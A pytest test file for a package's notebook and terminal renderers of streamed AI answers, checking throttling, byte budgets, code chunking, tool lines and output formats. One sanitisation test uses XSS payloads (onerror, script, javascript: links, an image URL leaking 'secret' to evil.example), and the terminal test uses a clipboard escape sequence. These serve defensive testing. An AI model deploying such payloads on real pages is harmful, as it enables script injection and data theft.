"""Renderers without a kernel: a fake publisher counts messages and bytes, a fake clock drives
the throttle, and the terminal renderer writes to StringIO."""

from __future__ import annotations

import io
import itertools
import json
import random
import sys
import types

import pytest

from agcloud_magic.display.notebook import NotebookRenderer
from agcloud_magic.display.render import format_footer
from agcloud_magic.display.terminal import TerminalRenderer
from agcloud_magic.ipython.renderers import make_renderer

from .test_markdown import RENDERER_TAGS, assert_inert


class Clock:
    """A clock that only moves when told to."""

    def __init__(self) -> None:
        self.now = 0.0

    def __call__(self) -> float:
        return self.now


class FakePublisher:
    """Records every display/update as (kind, handle index, data, metadata, time)."""

    def __init__(self, clock: Clock | None = None) -> None:
        self.clock = clock or Clock()
        self.messages: list[tuple[str, int, dict, dict | None, float]] = []
        self.count = 0

    def display(self, data, metadata=None):
        index = self.count
        self.count += 1
        self.messages.append(("display", index, dict(data), metadata, self.clock()))
        pub = self

        class Handle:
            def update(self, data, metadata=None):
                pub.messages.append(("update", index, dict(data), metadata, pub.clock()))

        return Handle()

    def bytes(self) -> int:
        return sum(len(v.encode()) for m in self.messages for v in m[2].values())

    def last_data(self) -> dict[int, dict]:
        """Each handle's current data (what the cell shows at the end)."""
        state: dict[int, dict] = {}
        for _kind, index, data, _meta, _t in self.messages:
            state[index] = data
        return state

    def final(self) -> tuple[dict, dict | None]:
        """The one output left with content at the end: its data and metadata."""
        state = self.last_data()
        shown = [i for i, data in state.items() if data != {"text/plain": ""}]
        assert len(shown) == 1, state
        last = next(m for m in reversed(self.messages) if m[1] == shown[0])
        return last[2], last[3]


def synthetic(tokens: int, seed: int = 1) -> list[str]:
    """A Markdown answer (paragraphs, list, code, table) in deltas of 2-9 characters."""
    rng = random.Random(seed)
    prose = "the revenue by region grows while costs stay flat and margins improve"
    words = prose.split()

    def para(n: int) -> str:
        return " ".join(rng.choice(words) for _ in range(n)).capitalize() + "."

    parts, size = [], 0
    while size < tokens * 5.5:
        parts += [
            "## Findings",
            para(60),
            "\n".join(f"- {para(10)}" for _ in range(5)),
            "```python\n"
            + "\n".join(f"x{i} = df.groupby('r').sum()  # {i}" for i in range(12))
            + "\n```",
            "| a | b |\n|---|--:|\n"
            + "\n".join(f"| {rng.choice(words)} | {i} |" for i in range(6)),
            para(40),
        ]
        size = sum(len(p) + 2 for p in parts)
    text = "\n\n".join(parts) + "\n"
    deltas, i = [], 0
    while i < len(text):
        step = rng.randint(2, 9)
        deltas.append(text[i : i + step])
        i += step
    return deltas


def drive(renderer, deltas, clock, rate: float | None, *, flush_loop=True) -> list:
    """Feed deltas arriving at ``rate`` per second (None = all at once), flushing when due,
    as the session's drain loop does; then finish.  Returns the messages sent before finish."""
    for i, delta in enumerate(deltas):
        arrival = i / rate if rate else clock.now
        while flush_loop:
            due = renderer.next_due()
            if due is None or clock.now + due > arrival:
                break
            clock.now += due
            renderer.flush()
        clock.now = max(clock.now, arrival)
        renderer.append(delta)
    streamed = list(renderer._pub.messages)
    renderer.finish(footer="model · 1 in / 2 out tokens · 3.0 s", metadata={"response_id": "r1"})
    return streamed


def make(fmt="markdown"):
    clock = Clock()
    pub = FakePublisher(clock)
    return NotebookRenderer(fmt, publisher=pub, clock=clock), pub, clock


# -- streaming behaviour ------------------------------------------------------------------------


def test_first_words_are_pushed_at_once_then_throttled():
    r, pub, clock = make()
    r.start()
    assert [m[0] for m in pub.messages] == ["display"]  # the small "waiting" line
    r.append("  ")
    assert len(pub.messages) == 1  # whitespace is not worth a message
    r.append("Hello")
    assert len(pub.messages) == 2 and "Hello" in pub.messages[-1][2]["text/html"]
    r.append(" world")
    assert len(pub.messages) == 2  # throttled
    assert r.next_due() == pytest.approx(0.1)
    clock.now = 0.05
    assert r.next_due() == pytest.approx(0.05)
    clock.now = 0.1
    assert r.next_due() == 0
    r.flush()
    assert "Hello world" in pub.messages[-1][2]["text/html"]
    assert r.next_due() is None  # nothing pending
    r.flush()
    assert len(pub.messages) == 3  # flushing with nothing pending sends nothing


def test_at_most_ten_pushes_a_second():
    r, _pub, clock = make()
    deltas = synthetic(600)
    streamed = drive(r, deltas, clock, rate=200)
    times = sorted({m[4] for m in streamed})  # moments anything was sent
    gaps = [b - a for a, b in itertools.pairwise(times)]
    assert min(gaps[1:]) >= 0.1 - 1e-9  # (the first words may follow the waiting line at once)
    assert len(times) > 10  # and it did stream


def test_append_pushes_by_itself_when_due():
    """A caller that never flushes between deltas still gets a streaming display."""
    r, pub, clock = make()
    for i, delta in enumerate(synthetic(300)):
        clock.now = i / 100
        r.append(delta)
    assert len(pub.messages) > 10


@pytest.mark.parametrize("tokens", [500, 2000])
@pytest.mark.parametrize("rate", [None, 30, 100, 300])
def test_bytes_stay_linear(tokens, rate):
    r, pub, clock = make()
    r.start()
    deltas = synthetic(tokens)
    drive(r, deltas, clock, rate)
    answer = len("".join(deltas).encode())
    assert pub.bytes() <= 5 * answer, pub.bytes() / answer


def test_naive_would_be_quadratic():
    """The yardstick the budget is about: re-sending the text on each delta."""
    deltas = synthetic(500)
    text, naive = "", 0
    for d in deltas:
        text += d
        naive += len(text)
    assert naive > 100 * len(text)


def test_blocks_are_sent_once_and_collapse_at_the_end():
    r, pub, clock = make()
    r.start()
    deltas = synthetic(800)
    drive(r, deltas, clock, rate=100)
    text = "".join(deltas)
    state = pub.last_data()
    assert pub.count > 5  # finished blocks went to displays of their own
    last = max(state)
    for index, data in state.items():
        if index != last:
            assert data == {"text/plain": ""}  # emptied
    data, meta = pub.final()
    assert data["text/plain"] == text
    assert meta == {"agcloud_magic": {"response_id": "r1"}}
    html = data["text/html"]
    assert "<h2>Findings</h2>" in html and '<code class="language-python">' in html
    assert "model · 1 in / 2 out tokens · 3.0 s" in html
    # While streaming: HTML only (no duplicate text/plain), never text/markdown.
    for kind, _index, data, _meta, _t in pub.messages:
        assert "text/markdown" not in data
        if kind == "display":
            assert set(data) == {"text/html"}


def test_finished_blocks_are_not_resent():
    r, pub, clock = make()
    paragraphs = [f"Paragraph number {i} " + "word " * 40 for i in range(12)]
    deltas = [w for p in paragraphs for w in (p[:100], p[100:], "\n\n")]
    for i, d in enumerate(deltas):
        clock.now = i * 0.2
        r.append(d)
        if r.next_due() == 0:
            r.flush()
    streamed = [m for m in pub.messages]
    for i in range(11):  # each finished paragraph is in exactly one message's final form
        holders = {m[1] for m in streamed if f"Paragraph number {i} " in m[2].get("text/html", "")}
        assert len(holders) == 1


def test_long_code_block_is_frozen_in_chunks():
    r, pub, clock = make()
    code = "".join(f"value_{i:04d} = compute({i}, scale=2.5)  # step {i}\n" for i in range(200))
    text = "Code:\n\n```python\n" + code + "```\n\nDone.\n"
    deltas = [text[i : i + 6] for i in range(0, len(text), 6)]
    streamed = drive(r, deltas, clock, rate=100)
    # no single streaming message grows with the whole block: chunks are frozen as it goes
    assert max(len(m[2].get("text/html", "")) for m in streamed) < 3000
    assert pub.count > 5
    for m in streamed:  # every chunk renders as code, not as paragraphs
        html = m[2].get("text/html", "")
        if "value_" in html:
            assert '<code class="language-python">' in html and "<p>value_" not in html
    assert pub.bytes() <= 5 * len(text.encode())
    final = pub.final()[0]
    assert final["text/plain"] == text and final["text/html"].count("<pre>") == 1


def test_frozen_fence_then_more_blocks_in_one_flush():
    """A frozen fence that closes, and a new long fence, all within one throttle interval."""
    r, pub, clock = make()
    lines_a = [f"alpha_{i:03d} = {i}\n" for i in range(120)]
    lines_b = [f"beta_{i:03d} = {i}\n" for i in range(120)]
    r.append("```py\n" + "".join(lines_a[:90]))
    clock.now = 1.0
    r.flush()
    r.append("".join(lines_a[90:]) + "```\n\nMiddle.\n\n```js\n" + "".join(lines_b) + "tail")
    clock.now = 2.0
    r.flush()
    committed = "".join(data.get("text/html", "") for data in pub.last_data().values())
    for line in lines_a + lines_b:  # every code line shown exactly once, as code
        assert committed.count(line.split(" ")[0] + " ") == 1, line
    assert "<p>alpha" not in committed and "<p>beta" not in committed
    assert committed.count('<code class="language-js">') >= 1


def test_fence_inside_a_deep_list_item_continues_as_code():
    r, _pub, clock = make()
    code = "".join(f"    line_{i} = {i}\n" for i in range(120))
    text = "10. Step\n    ```py\n" + code + "    ```\n\nafter\n"
    for m in drive(r, [text[i : i + 7] for i in range(0, len(text), 7)], clock, rate=100):
        html = m[2].get("text/html", "")
        if "line_50" in html:
            assert "<code" in html and "<p>line_50" not in html


def test_streamed_output_is_inert():
    r, pub, clock = make()
    r.start()
    nasty = (
        "Look <img src=x onerror=alert(1)> and <script>alert(2)</script>\n\n"
        "[click](javascript:alert(3)) ![p](https://evil.example/?q=secret)\n\n"
        "| <iframe srcdoc=x> | b |\n|---|---|\n| 1 | 2 |\n\n"
    ) * 5
    r.reasoning("thinking <img src=x onerror=alert(4)>")
    r.tool_call("<script>f</script>", '{"a": "<img src=x onerror=1>"}', "<svg onload=1>")
    drive(r, [nasty[i : i + 5] for i in range(0, len(nasty), 5)], clock, rate=100)
    r.error("boom <script>alert(5)</script>")
    for _kind, _index, data, _meta, _t in pub.messages:
        if data.get("text/html"):
            assert_inert(data["text/html"], RENDERER_TAGS)


# -- reasoning, tools, end states -------------------------------------------------------------


def test_reasoning_preview_then_closed_details():
    r, pub, clock = make()
    r.start()
    r.reasoning("First I look at **the data**. ")
    clock.now = 0.1
    assert r.next_due() == 0
    r.flush()
    preview = pub.messages[-1][2]["text/html"]
    assert "Reasoning…" in preview and "<details" not in preview
    r.reasoning("Then " + "more " * 100)
    clock.now = 0.2
    assert r.next_due() == pytest.approx(0.4)  # reasoning previews are slower
    r.append("Answer.")
    assert "<details" in pub.messages[-1][2]["text/html"]  # reasoning closed when text arrived
    r.finish(footer="f", metadata={})
    html = pub.final()[0]["text/html"]
    assert html.index("<details") < html.index("Answer.")
    assert "<details open" not in html and "<strong>the data</strong>" in html
    assert pub.final()[0]["text/plain"] == "Answer."


def test_tool_lines():
    r, pub, _clock = make()
    r.tool_call("get_weather", '{"city": "Paris"}', "sunny, " + "x" * 500)
    r.tool_call("noresult", "{}", None)
    r.append("It is sunny.")
    r.finish(footer="f", metadata={})
    html = pub.final()[0]["text/html"]
    assert "🔧 get_weather({&quot;city&quot;: &quot;Paris&quot;}) → sunny, xxx" in html
    assert "x" * 200 not in html  # cut short
    assert "🔧 noresult({})</div>" in html
    assert html.index("get_weather") < html.index("It is sunny.")


def test_note_and_error():
    r, pub, _clock = make()
    r.append("Partial answer")
    r.finish(footer="m · 2.0 s", metadata={"status": "interrupted"}, note="interrupted")
    html = pub.final()[0]["text/html"]
    assert "m · 2.0 s · interrupted" in html
    r.error("The stream was cut short: try again.")
    final = pub.final()[0]
    assert (
        "Partial answer" in final["text/html"]
        and "⚠ The stream was cut short" in final["text/html"]
    )
    assert final["text/plain"] == "Partial answer"
    assert pub.last_data()[0] == final  # one output holds it all


def test_error_without_text():
    r, pub, _clock = make()
    r.start()
    r.error("No API key: set AGCLOUD_API_KEY or run %agcloud login.")
    assert len(pub.last_data()) == 1
    final = pub.final()[0]
    assert final["text/plain"].startswith("No API key")
    assert "…" not in final["text/html"]  # the waiting line is gone


def test_calls_after_the_end_are_ignored():
    r, pub, _clock = make()
    r.append("done")
    r.finish(footer="f", metadata={})
    n = len(pub.messages)
    r.append("more")
    r.reasoning("more")
    r.tool_call("x", "{}", None)
    r.flush()
    assert len(pub.messages) == n and r.next_due() is None


def test_empty_answer_without_start():
    r, pub, _clock = make()
    r.finish(footer="m · 0.1 s", metadata={})
    assert pub.count == 1 and "m · 0.1 s" in pub.final()[0]["text/html"]


# -- formats ------------------------------------------------------------------------------------


def test_format_text():
    r, pub, clock = make("text")
    text = "line <b>1</b>\n\n" + "more text\n" * 300
    streamed = drive(r, [text[i : i + 8] for i in range(0, len(text), 8)], clock, rate=100)
    final = pub.final()[0]
    assert final["text/plain"] == text
    assert "<pre" in final["text/html"] and "&lt;b&gt;1&lt;/b&gt;" in final["text/html"]
    assert "<p>" not in final["text/html"]
    assert max(len(m[2].get("text/html", "")) for m in streamed) < 3000


def test_format_code():
    r, pub, clock = make("code")
    text = "Here you go:\n\n```python\nprint('<hi>')\n```\n\nEnjoy."
    drive(r, [text], clock, rate=None)
    final = pub.final()[0]
    assert final["text/plain"] == "print('<hi>')\n"
    assert '<pre><code class="language-python">print(&#x27;&lt;hi&gt;&#x27;)' in final["text/html"]
    r2, pub2, clock2 = make("code")
    drive(r2, ["x = 1  # no fence"], clock2, rate=None)
    assert pub2.final()[0]["text/plain"] == "x = 1  # no fence"


def test_format_json():
    r, pub, clock = make("json")
    drive(r, ['{"a": [1, 2], "b": "<x>"', "}"], clock, rate=None)
    final = pub.final()[0]
    assert json.loads(final["text/plain"]) == {"a": [1, 2], "b": "<x>"}
    assert final["text/plain"].startswith('{\n  "a"')
    assert "&lt;x&gt;" in final["text/html"]
    r2, pub2, clock2 = make("json")
    drive(r2, ['Sure:\n```json\n{"k": 1}\n```'], clock2, rate=None)
    assert json.loads(pub2.final()[0]["text/plain"]) == {"k": 1}
    r3, pub3, clock3 = make("json")
    drive(r3, ["not json at all"], clock3, rate=None)
    assert pub3.final()[0]["text/plain"] == "not json at all"


def test_unknown_format():
    with pytest.raises(ValueError):
        NotebookRenderer("html")
    with pytest.raises(ValueError):
        TerminalRenderer("yaml")


# -- choosing a renderer ------------------------------------------------------------------------


def test_make_renderer_selection(monkeypatch):
    assert isinstance(make_renderer(kind="notebook", publisher=FakePublisher()), NotebookRenderer)
    assert isinstance(make_renderer(kind="terminal"), TerminalRenderer)
    assert isinstance(make_renderer(publisher=FakePublisher()), NotebookRenderer)
    assert isinstance(make_renderer(object()), TerminalRenderer)

    from IPython.core.interactiveshell import InteractiveShell

    assert isinstance(make_renderer(InteractiveShell.instance()), TerminalRenderer)

    class FakeZMQShell:
        pass

    monkeypatch.setitem(
        sys.modules, "ipykernel.zmqshell", types.SimpleNamespace(ZMQInteractiveShell=FakeZMQShell)
    )
    assert isinstance(make_renderer(FakeZMQShell(), fmt="text"), NotebookRenderer)
    with pytest.raises(ValueError):
        make_renderer(kind="browser")  # type: ignore[arg-type]


def test_default_publisher_uses_display_ids():
    from IPython.core.interactiveshell import InteractiveShell
    from IPython.utils.capture import capture_output

    InteractiveShell.instance()
    with capture_output() as captured:
        r = make_renderer(kind="notebook")
        r.start()
        r.append("hi **there**")
        r.finish(footer="f", metadata={"response_id": "r"})
    outputs = captured.outputs
    assert len({o.transient["display_id"] for o in outputs}) == 1
    assert outputs[-1].data["text/plain"] == "hi **there**"
    assert outputs[-1].metadata == {"agcloud_magic": {"response_id": "r"}}


# -- terminal -----------------------------------------------------------------------------------


def test_terminal_renderer():
    out, err = io.StringIO(), io.StringIO()
    r = TerminalRenderer(stream=out, err_stream=err)
    r.start()
    r.reasoning("Think\nmore")
    r.append("Hello \x1b]52;c;ZXZpbA==\x07world")
    r.tool_call("f", '{"x": 1}', "ok")
    r.append("Bye")
    assert r.next_due() is None
    r.finish(footer="m · 1.0 s", metadata={}, note="interrupted")
    r.error("Something failed.")
    assert out.getvalue() == (
        "[reasoning] Think\n[reasoning] more\nHello ]52;c;ZXZpbA==world\n"
        '[tool] f({"x": 1}) -> ok\nBye\nm · 1.0 s · interrupted\n'
    )
    assert "\x1b" not in out.getvalue()  # not a tty, and model escapes are stripped
    assert err.getvalue() == "Something failed.\n"


def test_terminal_colors_and_stdout(capsys):
    r = TerminalRenderer(color=True)
    r.reasoning("hm")
    r.append("answer")
    r.finish(footer="f", metadata={})
    printed = capsys.readouterr().out
    assert printed == "\x1b[2m[reasoning] hm\x1b[0m\nanswer\n\x1b[2mf\x1b[0m\n"


# -- footer -------------------------------------------------------------------------------------


def test_format_footer():
    usage = {"input_tokens": 12, "output_tokens": 345, "total_tokens": 357}
    assert (
        format_footer("gpt-4o-mini", usage, 1.23) == "gpt-4o-mini · 12 in / 345 out tokens · 1.2 s"
    )
    usage = {
        "input_tokens": 1234,
        "input_tokens_details": {"cached_tokens": 1024},
        "output_tokens": 2000,
        "output_tokens_details": {"reasoning_tokens": 640},
    }
    assert format_footer("o4-mini", usage, 123.4) == (
        "o4-mini · 1,234 in (1,024 cached) / 2,000 out (640 reasoning) tokens · 123 s"
    )
    assert format_footer("m", None, 0.5) == "m · 0.5 s"
    assert format_footer(None, None, None) == ""


def test_a_long_answer_ends_where_it_streamed_without_rendering_it_again(monkeypatch):
    import agcloud_magic.display.notebook as notebook

    rendered: list[int] = []
    real = notebook.to_safe_html

    def counting(text: str) -> str:
        rendered.append(len(text))
        return real(text)

    monkeypatch.setattr(notebook, "to_safe_html", counting)
    r, pub, clock = make()
    deltas = synthetic(40_000)
    text = "".join(deltas)
    assert len(text) > NotebookRenderer.KEEP_STREAMED_OVER
    drive(r, deltas, clock, rate=2000)
    # Each block was rendered about once while it streamed; the end added no second pass
    # over the whole answer (which held an interrupted kernel a second per million chars).
    assert sum(rendered) < 1.5 * len(text)
    state = pub.last_data()
    finals = [m for m in pub.messages if m[3] == {"agcloud_magic": {"response_id": "r1"}}]
    assert len(finals) == 1
    final = finals[0][2]
    assert final["text/plain"] == text  # plain front ends get the whole answer
    assert "model · 1 in / 2 out tokens · 3.0 s" in final["text/html"]
    assert finals[0][1] == max(state)  # the footer ends the last display
    shown = "".join(data.get("text/html", "") for _i, data in sorted(state.items()))
    # Every block is still shown, once: the streamed displays were kept, not emptied.
    assert shown.count("<h2>Findings</h2>") == text.count("## Findings")
    assert all(data != {"text/plain": ""} for data in state.values())


def test_a_long_answer_replaced_by_another_final_text_is_rendered_whole():
    r, pub, _clock = make()
    for delta in synthetic(40_000):
        r.append(delta)
    final_text = "The final answer.\n"
    r.finish(footer="f", metadata={"response_id": "r2"}, text=final_text)
    data, _meta = pub.final()  # one display left: the replaced text, rendered whole
    assert data["text/plain"] == final_text
